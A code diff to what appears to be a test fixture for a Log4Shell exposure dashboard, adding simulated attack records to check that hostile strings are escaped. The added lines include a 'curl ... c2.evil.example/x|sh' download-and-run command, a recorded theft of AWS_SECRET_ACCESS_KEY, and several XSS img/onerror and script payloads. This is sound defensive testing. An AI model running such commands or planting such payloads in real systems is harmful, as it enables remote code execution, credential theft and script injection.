@@ -40,6 +40,7 @@ s = Server(db, name="browser")
 SHARED = "b" * 64
 HOSTILE_PATHS = ['/srv/<img src=x onerror="window.__xss=1;alert(1)">.jar',
                  "/srv/<script>window.__xss=2</script>/log4j-core-2.14.1.jar"]
+HOSTILE_PAYLOAD = "curl -s http://c2.evil.example/x|sh <img src=x onerror=\"window.__xss=5\">"
 HOSTILE_HOST = "<b>evil</b>-host\"'><img src=x onerror=alert(3)>"
 reports = []
 # 6 devices: web1 exposed and attacked, web2 exposed, db1 vulnerable not listening,
@@ -49,7 +50,8 @@ reports.append(report(envelope(mid(1), "web1"), [
     # the running JVM's copy of the same file: one file, "loaded by pid 101"
     finding("/srv/shop.war!/WEB-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED, pid=101),
     finding("/opt/tools/log4j-core-2.16.0.jar", version="2.16.0", status="mitigated", cves=["CVE-2021-45105"]),
-    process(pid=101, status="vulnerable", ports=[8080], restart=True), attempt(10), attempt(11, host="evil.example")]))
+    process(pid=101, status="vulnerable", ports=[8080], restart=True), attempt(10),
+    dict(attempt(11, host="c2.evil.example"), exfil=["env:AWS_SECRET_ACCESS_KEY"], payload=HOSTILE_PAYLOAD)]))
 reports.append(report(envelope(mid(2), "web2"), [
     finding("/srv/api.jar!/BOOT-INF/lib/log4j-core-2.14.1.jar", sha256=SHARED),
     process(pid=202, status="vulnerable", ports=[8443])]))
@@ -128,6 +130,7 @@ expect = {
     "devices_critical_exposed": crit_exposed,
     "loaded_pid": 101, "loopback_host": "lo1", "partial_host": "part1", "clean_host": "full1",
     "image": IMG, "hostile_image": HOSTILE_IMAGE, "image_host": "k8s-node",
+    "hostile_payload": HOSTILE_PAYLOAD, "callback_domain": "evil.example",
     "top_cve": "CVE-2021-44228", "top_cve_title_word": "Log4Shell", "top_cve_cvss": "10.0",
 }
 exp_file = os.path.join(OUT, "expect.json")
